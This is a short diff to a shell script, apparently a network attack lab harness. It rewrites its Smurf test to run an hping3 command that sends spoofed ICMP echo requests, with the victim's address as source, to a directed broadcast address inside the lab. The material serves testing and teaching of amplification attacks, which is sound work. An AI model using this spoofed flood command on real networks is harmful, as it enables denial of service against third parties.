@@ -230,8 +230,11 @@ amplifiers() {
 }
 s_smurf() {
     amplifiers 1
-    craft smurf
-    local rc=$?
+    # 20 echo requests "from" the victim to the LAN's directed broadcast
+    # address, 50 ms apart.
+    # (hping3 exits 1: the replies go to the victim, not to it.)
+    lab_exec atk timeout 10 hping3 -q -1 -a $VIC4 -c 20 -i u50000 -d 56 $BCAST4 >/dev/null 2>&1 || true
+    local rc=0
     amplifiers 0
     return $rc
 }
